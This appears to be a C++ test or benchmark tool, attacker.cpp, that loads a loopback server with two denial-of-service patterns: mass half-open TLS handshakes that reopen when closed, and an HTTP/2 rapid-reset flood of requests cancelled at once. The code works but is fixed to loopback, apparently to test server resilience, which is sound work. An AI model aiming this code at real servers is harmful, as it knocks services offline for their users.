// attacker.cpp: a client that misbehaves on loopback, for tests/bench. Runs until it is ended.
//
//   attacker PORT NAME half-open COUNT    keeps COUNT TLS handshakes begun: one half of them after the whole
//   ClientHello,
//                                         the other half within it. What the server closes is opened again.
//   attacker PORT NAME rapid-reset        one connection of HTTP/2 over TLS at a time, whose requests are all reset at
//                                         once; the next one begins when the server has ended it
//
// Prints "ready" when all handshakes were begun, or after the first connection or 1,000 requests.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

sockaddr_in address{};
std::string name;

void ready() {
  std::puts("ready");
  std::fflush(stdout);
}

int connected() {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) return fd;
  std::perror("connect");
  std::exit(1);
}

SSL* client(SSL_CTX* context) {
  SSL* session = SSL_new(context);
  SSL_set_tlsext_host_name(session, name.c_str());
  SSL_set_connect_state(session);
  return session;
}

std::string client_hello(SSL_CTX* context) {
  SSL* session = client(context);
  BIO* out = BIO_new(BIO_s_mem());
  SSL_set_bio(session, BIO_new(BIO_s_mem()), out);
  SSL_do_handshake(session);
  char* data = nullptr;
  long size = BIO_get_mem_data(out, &data);
  std::string hello(data, static_cast<size_t>(size));
  SSL_free(session);
  return hello;
}

[[noreturn]] void half_open(SSL_CTX* context, size_t count) {
  std::string hello = client_hello(context);
  int epoll = epoll_create1(EPOLL_CLOEXEC);
  auto begin = [&](size_t number) {
    int fd = connected();
    size_t size = number % 2 == 0 ? hello.size() : hello.size() / 2;
    if (send(fd, hello.data(), size, MSG_NOSIGNAL) < 0) std::perror("send");
    epoll_event event{};
    event.events = EPOLLRDHUP;
    event.data.u64 = static_cast<uint64_t>(fd) << 32 | number;
    epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
  };
  for (size_t i = 0; i < count; ++i) begin(i);
  ready();
  epoll_event events[256];
  for (;;) {
    int some = epoll_wait(epoll, events, 256, -1);
    for (int i = 0; i < some; ++i) {
      close(static_cast<int>(events[i].data.u64 >> 32));
      begin(events[i].data.u64 & UINT32_MAX);
    }
  }
}

void put(std::string& frames, uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  frames += {'\0', '\0', static_cast<char>(payload.size()), static_cast<char>(type), static_cast<char>(flags)};
  uint32_t number = htonl(stream);
  frames.append(reinterpret_cast<const char*>(&number), sizeof number).append(payload);
}

// True: all of it went out. What the server sends meanwhile is read and forgotten.
bool write_all(SSL* session, const std::string& frames) {
  static char scratch[64 * 1024];
  for (;;) {
    int written = SSL_write(session, frames.data(), static_cast<int>(frames.size()));
    int got = 0;
    while ((got = SSL_read(session, scratch, sizeof scratch)) > 0) {
    }
    if (SSL_get_error(session, got) != SSL_ERROR_WANT_READ) return false;
    if (written > 0) return true;
    pollfd one{SSL_get_fd(session), POLLIN | POLLOUT, 0};
    poll(&one, 1, -1);
  }
}

[[noreturn]] void rapid_reset(SSL_CTX* context) {
  constexpr uint8_t kHeaders = 1, kReset = 3, kSettings = 4;
  constexpr uint32_t kLastStream = 2'000'000'000;
  // GET https:// /, from HPACK's static table, and the host as a literal that is not indexed.
  std::string head = "\x82\x87\x84\x01" + std::string(1, static_cast<char>(name.size())) + name;
  SSL_CTX_set_alpn_protos(context, reinterpret_cast<const unsigned char*>("\2h2"), 3);
  SSL_CTX_set_mode(context, SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  for (bool first = true;; first = false) {
    int fd = connected();
    SSL* session = client(context);
    SSL_set_fd(session, fd);
    if (SSL_do_handshake(session) == 1) {
      fcntl(fd, F_SETFL, O_NONBLOCK);
      std::string frames = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
      put(frames, kSettings, 0, 0, {});
      uint32_t stream = 1;
      do {
        for (int i = 0; i < 100; ++i, stream += 2) {
          put(frames, kHeaders, 5, stream, head);
          put(frames, kReset, 0, stream, {"\0\0\0\x08", 4});
        }
        if (!write_all(session, frames)) break;
        frames.clear();
        if (first && stream > 2000) {
          ready();
          first = false;
        }
      } while (stream < kLastStream);
    }
    ERR_clear_error();
    SSL_free(session);
    close(fd);
    if (first) ready();
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::string_view kind = argc > 3 ? argv[3] : "";
  if (!(kind == "half-open" && argc == 5) && !(kind == "rapid-reset" && argc == 4)) {
    std::fprintf(stderr, "usage: attacker PORT NAME half-open COUNT | rapid-reset\n");
    return 2;
  }
  signal(SIGPIPE, SIG_IGN);
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(std::strtoul(argv[1], nullptr, 10)));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  name = argv[2];
  SSL_CTX* context = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set1_groups_list(context, "X25519");
  SSL_CTX_set_verify(context, SSL_VERIFY_NONE, nullptr);
  if (kind == "half-open") half_open(context, std::strtoull(argv[4], nullptr, 10));
  rapid_reset(context);
}
